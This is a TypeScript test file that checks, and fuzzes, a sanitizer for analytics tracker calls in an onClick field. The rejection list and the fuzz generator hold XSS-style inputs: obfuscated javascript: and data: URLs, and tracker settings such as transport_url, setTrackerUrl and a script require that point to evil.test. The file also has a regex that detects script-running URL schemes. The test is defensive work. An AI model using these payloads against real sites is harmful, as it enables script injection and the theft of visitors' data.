// Does not depend on the database.
import { expect, it } from 'vitest';
import { fuzz, oneOf, some, text, value, type Draw } from '../support/fuzz';
import { php, phpValue, phpFile } from '../support/site';

const { call: callPhp } = phpFile( 'tests/php/fuzz-on-click.php' );

const clean = ( calls: string[] ) =>
	php< string[] >(
		`return array_map( array( 'Pagewright\\\\Blocks\\\\OnClick', 'clean' ), ${ phpValue( calls ) } );`
	);

const SENDS = [
	`ga( 'send', 'event', 'Guide', 'download', 'a.pdf', 4 )`,
	`ga('shop.send', 'pageview')`,
	`gtag( 'event', 'download', { file: 'guide.pdf', pages: 12 } )`,
	`gtag( 'event', 'conversion', { send_to: 'AW-1/abc', value: 1.5, currency: 'EUR' } )`,
	`gtag_report_conversion()`,
	`gtag_report_conversion( 'https://example.org/thanks?a=b' )`,
	`gtag_report_conversion('/thanks')`,
	`dataLayer.push( { event: 'signup', items: [ { id: 7 } ] } )`,
	`_gaq.push( [ '_trackEvent', 'a', 'b' ] )`,
	`_paq.push( [ 'trackEvent', 'a', 'b', 'c', 1 ] )`,
	`_paq.push([ 'trackGoal', 1 ])`,
	`_paq.push([ 'trackLink', 'https://example.org/a.pdf', 'download' ])`,
	`_hsq.push([ 'trackCustomBehavioralEvent', { name: 'a', properties: {} } ])`,
	`uetq.push( 'event', 'a', { event_label: 'b' } )`,
	`fbq( 'track', 'Lead', { value: 1 } )`,
	`twq('event', 'a', {})`,
	`pintrk('track', 'lead')`,
	`snaptr('track', 'SIGN_UP')`,
	`rdt('track', 'Lead')`,
	`lintrk('track', { conversion_id: 1 })`,
	`ttq.track('Contact')`,
	`plausible('Signup', { props: { a: 1 } })`,
	`umami.track('Signup')`,
	`clarity('event', 'a')`,
	`hj('event', 'a')`,
	`mixpanel.track('a', { b: 1 })`,
	`posthog.capture('a', { b: 1 })`,
];

/** Calls of the same functions that do more than report an event. */
const DOES_MORE = [
	`gtag_report_conversion( "javascript:alert(1)" )`,
	`gtag_report_conversion( " \\tjava\\nscript:alert(1)" )`,
	`gtag_report_conversion( "JAVASCRIPT&colon;alert(1)" )`,
	`gtag_report_conversion( "\\u006aavascript:alert(1)" )`,
	`gtag_report_conversion( "\\u0001javascript:alert(1)" )`,
	`gtag_report_conversion( "data:text/html,x" )`,
	`gtag_report_conversion( "//evil.test" )`,
	`gtag_report_conversion( "/\\\\evil.test" )`,
	`gtag_report_conversion( "ftp://evil.test" )`,
	`gtag_report_conversion( [ "javascript:alert(1)" ] )`,
	`gtag_report_conversion( { toString: "x" } )`,
	`gtag_report_conversion( "https://a.test", "javascript:alert(1)" )`,
	`gtag( "config", "G-1", { transport_url: "https://evil.test" } )`,
	`gtag( "set", { a: 1 } )`,
	`gtag( "js", 1 )`,
	`gtag( "consent", "update", { ad_storage: "granted" } )`,
	`gtag( "event", "x", { transport_url: "https://evil.test" } )`,
	`gtag( "event", "x", { event_callback: "alert" } )`,
	`gtag( [ "config" ] )`,
	`gtag()`,
	`ga( "create", "UA-1" )`,
	`ga( "require", "x", "https://evil.test/a.js" )`,
	`ga( "set", "hitCallback", "x" )`,
	`ga( "t.require", "x" )`,
	`_paq.push( [ "setTrackerUrl", "https://evil.test" ] )`,
	`_paq.push( [ "setCustomRequestProcessing", "x" ] )`,
	`_paq.push( [ [ "setTrackerUrl", "x" ] ] )`,
	`_paq.push( [ "trackEvent" ], [ "setTrackerUrl", "https://evil.test" ] )`,
	`_paq.push( "setTrackerUrl" )`,
	`_gaq.push( [ "_setAccount", "x" ] )`,
	`_hsq.push( [ "setPath", "x" ] )`,
	`dataLayer.push( [ "config", "G-1" ] )`,
	`dataLayer.push( "config", "G-1" )`,
	`dataLayer.push( { event: "gtm.init" } )`,
	`dataLayer.push( { event: "x", eventCallback: "x" } )`,
	`dataLayer.push( { a: { b: [ "javascript:alert(1)" ] } } )`,
	`fbq( "init", "1" )`,
	`fbq( "set", "autoConfig", false, "1" )`,
	`twq( "config", "x" )`,
	`pintrk( "load", "1" )`,
	`clarity( "start", {} )`,
	`hj( "stateChange", "x" )`,
	`uetq.push( "config", "x" )`,
	`mixpanel.track( { toString: "x" } )`,
	`plausible( "a", "b" )`,
];

it( 'calls of trackers pass, in a normalized form', async () => {
	const cleaned = await clean( SENDS );
	SENDS.forEach( ( call, at ) => expect( cleaned[ at ], call ).not.toBe( '' ) );
	expect( await clean( cleaned ) ).toEqual( cleaned );
} );

it( 'other calls are refused', async () => {
	const cleaned = await clean( DOES_MORE );
	DOES_MORE.forEach( ( call, at ) => expect( cleaned[ at ], call ).toBe( '' ) );
} );

it( 'a site can add and remove functions', async () => {
	expect( await callPhp( 'with_site_functions' ) ).toEqual( [ 'acme.track( 1 )', '', '' ] );
} );

/** Repeated here, so that the tests do not depend on the code that they test. */
const MAY: Record< string, RegExp | null > = {
	ga: /^(\w+\.)?send$/,
	__gaTracker: /^(\w+\.)?send$/,
	gtag: /^event$/,
	fbq: /^track/,
	twq: /^(track|event)$/,
	pintrk: /^track$/,
	snaptr: /^track$/,
	rdt: /^track$/,
	lintrk: /^track$/,
	clarity: /^(set|event|identify|upgrade)$/,
	hj: /^(event|trigger|tagRecording|vpv)$/,
	'_gaq.push': /^_track/,
	'_paq.push': /^(track|(add|set)Ecommerce)/,
	'_hsq.push': /^track/,
	'uetq.push': /^event$/,
	plausible: null,
	'ttq.track': null,
	'umami.track': null,
	'mixpanel.track': null,
	'posthog.capture': null,
	'dataLayer.push': null,
	gtag_report_conversion: /^(https?:\/\/|\/(?![/\\])|[#?]|$)/i,
};

const textsIn = ( one: unknown ): string[] =>
	typeof one === 'string'
		? [ one ]
		: one && typeof one === 'object'
			? Object.values( one ).flatMap( textsIn )
			: [];

/** Returns the problem of code that passed; '' for none. */
function problem( code: string ): string {
	if ( code === '' ) {
		return '';
	}
	// Texts contain no quote except their own, so everything between two quotes is one text.
	for ( const call of code
		.replace( /"[^"]*"/g, ( one ) => one.replaceAll( ';', '\\u003b' ) )
		.split( '; ' ) ) {
		const found = /^([\w$.]+)\( (.*) \)$/s.exec( call );
		if ( ! found || ! ( found[ 1 ]! in MAY ) ) {
			return `no call of the table: ${ call }`;
		}
		let values: unknown[];
		try {
			values = JSON.parse( `[${ found[ 2 ] }]` );
		} catch {
			return `no literals: ${ call }`;
		}
		const first = Array.isArray( values[ 0 ] ) ? values[ 0 ][ 0 ] : values[ 0 ];
		const may = MAY[ found[ 1 ]! ];
		if (
			may &&
			! ( found[ 1 ] === 'gtag_report_conversion' && values.length === 0 ) &&
			! may.test( String( first ) )
		) {
			return `not this command: ${ call }`;
		}
		if (
			textsIn( values ).some( ( one ) =>
				/^[\s\x00-\x20]*(javascript|data|vbscript):/i.test(
					one.replace( /[\s\x00-\x20]/g, '' )
				)
			)
		) {
			return `an address that runs: ${ call }`;
		}
	}
	return '';
}

const quoted = ( draw: Draw, words: string ) =>
	oneOf( draw, [
		() => JSON.stringify( words ),
		() => `'${ words.replaceAll( "'", "\\'" ) }'`,
		() => `&quot;${ words }&quot;`,
		() => JSON.stringify( words ).replaceAll( 'a', '\\u0061' ),
	] )();
const WORDS = [
	'event',
	'send',
	'track',
	'trackEvent',
	'_trackEvent',
	'config',
	'set',
	'setTrackerUrl',
	'javascript:alert(1)',
	'JavaScript:alert(1)',
	'https://example.org/',
	'//evil.test',
	'trackLink',
	'create',
	'x',
];
const argument = ( draw: Draw ): string =>
	oneOf( draw, [
		() => quoted( draw, oneOf( draw, WORDS ) ),
		() => quoted( draw, oneOf( draw, WORDS ) ),
		() => `[ ${ some( draw, 3, () => quoted( draw, oneOf( draw, WORDS ) ) ).join( ', ' ) } ]`,
		() => JSON.stringify( value( draw, 2 ) ),
		() =>
			`{ ${ some( draw, 2, () => `${ oneOf( draw, [ 'event', 'eventCallback', 'a', '"b c"', 'constructor', '__proto__' ] ) }: ${ quoted( draw, oneOf( draw, WORDS ) ) }` ).join( ', ' ) } }`,
		() => text( draw, 2 ),
		() =>
			oneOf( draw, [
				'alert(1)',
				'document.cookie',
				'() => 1',
				'`x`',
				'/x/',
				'1',
				'null',
				'',
			] ),
	] )();
/** Returns valid code with a random piece inserted. */
const changed = ( draw: Draw ): string => {
	const known = oneOf( draw, SENDS );
	const at = Math.floor( draw() * known.length );
	return draw() < 0.3
		? known
		: known.slice( 0, at ) +
				oneOf( draw, [ text( draw, 1 ), oneOf( draw, WORDS ) ] ) +
				known.slice( at );
};
const call = ( draw: Draw ): string => ( draw() < 0.5 ? changed( draw ) : random( draw ) );
const random = ( draw: Draw ): string =>
	`${ oneOf( draw, [ '', '', '', 'window.', 'self.', 'x=' ] ) }${
		draw() < 0.9
			? oneOf( draw, Object.keys( MAY ) )
			: oneOf( draw, [
					'alert',
					'eval',
					'gtag.constructor',
					'dataLayer.push.call',
					'toString',
					text( draw, 2 ),
				] )
	}${ oneOf( draw, [ '(', '(', '( ', '`', '' ] ) }${ some( draw, 3, () => argument( draw ) ).join( oneOf( draw, [ ',', ', ', ' ', ';' ] ) ) }${ oneOf( draw, [ ')', ')', ' )', ');', ')(1)', ').x', '' ] ) }`;

it( '10,000 texts contain nothing outside of the table when they pass', async () => {
	let passed = 0;
	const { failures, outcomes } = await fuzz( {
		make: ( draw ) =>
			[ call( draw ), ...some( draw, 2, () => call( draw ) ) ].join(
				oneOf( draw, [ ';', '; ', '\n', ' ', ',' ] )
			),
		batch: 2500,
		code: 'return Pagewright\\Blocks\\OnClick::clean( $input );',
		check: ( { output } ) => {
			passed += output === '' ? 0 : 1;
			return problem( String( output ) );
		},
	} );
	expect( failures ).toEqual( [] );
	expect( outcomes ).toBe( 10_000 );
	expect( passed, 'a generator that nothing passes would prove nothing' ).toBeGreaterThan( 100 );
}, 60_000 );
